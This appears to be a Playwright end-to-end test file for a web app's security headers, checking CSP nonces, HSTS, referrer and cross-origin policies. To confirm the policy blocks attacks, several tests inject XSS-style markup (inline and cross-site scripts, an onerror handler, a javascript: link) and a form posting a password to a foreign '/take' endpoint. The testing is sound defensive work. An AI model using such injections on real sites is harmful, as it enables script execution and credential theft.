import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/test';
import { ForeignSite } from '../fixtures/foreign_site';
import { Person } from '../fixtures/person';
import { Program } from '../fixtures/program';
import { Relay } from '../fixtures/relay';
import { ownPages } from '../fixtures/scenes';

const VIOLATION = /securitypolicyviolation|Content Security Policy/;

/** Opens pages, signs in, and signs out. */
async function wanders(person: Person): Promise<void> {
  await person.goes('/');
  await person.goes('/me');
  await person.presses('google');
  await person.cancels();
  await person.presses('naver');
  await person.agreesAs('minji');
  for (const path of ['/', '/oauth/login', '/api/auth/session', '/nowhere', '/api/auth/callback/google?state=x']) {
    await person.goes(path);
  }
  for (const path of ['/signup', '/email/verify?token=x', '/password/forgot', '/password/reset', ...ownPages]) {
    await person.goes(path);
  }
  await person.goes('/api/auth/signout');
  await person.goes('/me');
  await person.page.waitForLoadState('networkidle');
  await person.signsOut();
}

test('s_hdr_2 s_hdr_4 to s_hdr_10 every answer carries the headers, whatever its status', async ({ page }) => {
  const relay = await Relay.open();
  const program = await Program.start({ DAEMUN_PUBLIC_URL: relay.origin });
  relay.target = program.address;
  await wanders(new Person(page, program));
  await program.stop();
  await relay.close();

  const statuses = new Set(relay.exchanges.map(({ status }) => status));
  expect([...statuses]).toEqual(expect.arrayContaining([200, 303, 400, 404, 405]));
  for (const exchange of relay.exchanges) {
    const { method, status } = exchange;
    const headers = new Headers(
      exchange.headers
        .trim()
        .split('\n')
        .map((line) => line.split(/: (.*)/, 2) as [string, string]),
    );
    const body = exchange.body.toString();
    const path = exchange.path.split('?')[0];
    const name = `${method} ${path} ${status}`;
    const isFile = status === 200 && /^\/(pkg|providers)\/|\.svg$/.test(path);
    // Redirects have no form that needs an Origin (decision 34).
    const leadsOn = headers.has('location') || path.startsWith('/api/auth/callback/');

    expect.soft(headers.get('content-security-policy'), `s_hdr_2 ${name}`).toContain("frame-ancestors 'none'");
    expect
      .soft(headers.get('strict-transport-security'), `s_hdr_4 ${name}`)
      .toMatch(/^max-age=\d{8,}; includeSubDomains$/);
    expect.soft(headers.get('x-content-type-options'), `s_hdr_5 ${name}`).toBe('nosniff');
    if (body !== '') expect.soft(headers.get('content-type'), `s_hdr_5 ${name}`).toMatch(kindOf(path, body));
    expect
      .soft(headers.get('referrer-policy'), `s_hdr_6 ${name}`)
      .toMatch(leadsOn ? /^no-referrer$/ : /^(no-referrer|same-origin)$/);
    expect.soft(headers.get('cross-origin-opener-policy'), `s_hdr_7 ${name}`).toBe('same-origin');
    expect.soft(headers.get('cross-origin-resource-policy'), `s_hdr_7 ${name}`).toBe('same-origin');
    expect.soft(headers.get('permissions-policy'), `s_hdr_7 ${name}`).toContain('camera=()');
    if (!isFile) expect.soft(headers.get('cache-control'), `s_hdr_8 ${name}`).toBe('no-store');
    expect.soft(headers.get('access-control-allow-origin'), `s_hdr_9 ${name}`).toBeNull();
    expect.soft(headers.get('server'), `s_hdr_10 ${name}`).toBeNull();
    expect.soft(headers.get('x-powered-by'), `s_hdr_10 ${name}`).toBeNull();
  }
});

/** The content type that fits a body. */
function kindOf(path: string, body: string): RegExp {
  if (body.startsWith('<!DOCTYPE html>')) return /^text\/html; charset=utf-8$/;
  if (path.endsWith('.css')) return /^text\/css; charset=utf-8$/;
  if (path.endsWith('.js')) return /^text\/javascript; charset=utf-8$/;
  if (path.endsWith('.wasm')) return /^application\/wasm$/;
  if (path.endsWith('.svg')) return /^image\/svg\+xml/;
  return /^application\/json/;
}

test('s_hdr_1 each load has a nonce of its own and a policy that trusts nothing else', async ({ person, program }) => {
  await person.signsIn('google', 'minji');
  const seen = new Set<string>();
  for (let loads = 0; loads < 3; loads += 1) {
    for (const path of ['/', '/oauth/login', '/signup', '/email/verify', ...ownPages]) {
      const policy =
        (await (await person.page.goto(program.origin + path))?.headerValue('content-security-policy')) ?? '';
      const directives = new Map(policy.split(';').map((text) => text.trim().split(/ (.*)/s) as [string, string]));
      expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
      expect(directives.get('object-src')).toBe("'none'");
      expect(directives.get('base-uri')).toBe("'none'");
      expect(directives.get('connect-src')).toBe("'self'");
      const scripts = directives.get('script-src') ?? '';
      if (scripts === "'none'") {
        // A page without scripts has no nonce.
        expect(await person.page.locator('script').count(), path).toBe(0);
        continue;
      }
      const nonce = /'nonce-([^']+)'/.exec(scripts)?.[1] ?? '';
      expect(Buffer.from(nonce, 'base64').length).toBeGreaterThanOrEqual(16);
      expect(seen.has(nonce)).toBe(false);
      seen.add(nonce);
    }
  }
  expect(seen.size).toBeGreaterThanOrEqual(3 * ownPages.length);
});

/** Injects markup into a page, and leaves its headers unchanged. */
async function slipIn(page: Page, url: string, markup: string): Promise<void> {
  await page.route(url, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({ response, body: html.replace('</main>', `${markup}</main>`) });
  });
}

for (const path of ['/', '/oauth/login', '/signup', ...ownPages, '/nowhere']) {
  test(`s_hdr_1 script that slips into ${path} does not run`, async ({ person, program, complaints }) => {
    complaints.expect(VIOLATION);
    await person.signsIn('google', 'minji');
    const foreign = await ForeignSite.open();
    await slipIn(
      person.page,
      program.origin + path,
      `<i id="slipped"></i><script>window.ran = 'inline'</script>
       <script src="${foreign.crossSite}/evil.js"></script>
       <img src="/none" onerror="window.ran = 'attribute'">
       <a id="link" href="javascript:window.ran='address'">x</a>
       <base href="${foreign.crossSite}/"><object data="${foreign.crossSite}/o"></object>
       <img src="${foreign.crossSite}/pixel"><link rel="stylesheet" href="${foreign.crossSite}/evil.css">`,
    );
    await person.goes(path);
    await expect(person.page.locator('#slipped')).toHaveCount(1);
    await person.page.locator('#link').click();
    await person.page.waitForLoadState('networkidle');
    expect(await person.page.evaluate('window.ran')).toBeUndefined();
    expect(await person.page.evaluate(() => document.baseURI)).toContain(program.origin);
    expect(foreign.visits).toEqual([]);
    expect(complaints.like(/securitypolicyviolation: script-src-elem refused inline/)).not.toHaveLength(0);
    await foreign.close();
  });

  test(`s_hdr_3 a form that slips into ${path} sends nothing elsewhere`, async ({ person, program, complaints }) => {
    complaints.expect(VIOLATION);
    await person.signsIn('google', 'minji');
    const foreign = await ForeignSite.open();
    await slipIn(
      person.page,
      program.origin + path,
      `<form method="post" action="${foreign.crossSite}/take">
         <input name="password"><button id="slipped">x</button>
       </form>`,
    );
    await person.goes(path);
    // `click` would wait for a navigation, which does not happen.
    await person.page.locator('#slipped').dispatchEvent('click');
    await expect.poll(() => complaints.like(/form-action/).length).toBeGreaterThan(0);
    expect(foreign.visits).toEqual([]);
    await foreign.close();
  });
}

test('s_hdr_3 the login form may lead to the providers, and the main page may not', async ({ person, program }) => {
  const directive = async (path: string) => {
    const policy = await (await person.page.goto(program.origin + path))?.headerValue('content-security-policy');
    return /form-action ([^;]*)/.exec(policy ?? '')?.[1];
  };
  expect(await directive('/')).toBe("'self'");
  const admitted = (await directive('/oauth/login'))?.split(' ') ?? [];
  expect(admitted).toEqual(expect.arrayContaining(["'self'", program.simulators.origin]));
  // Kakao redirects people to its account pages, whatever its authorize address is.
  expect(["'self'", program.simulators.origin, 'https://accounts.kakao.com']).toEqual(expect.arrayContaining(admitted));
});
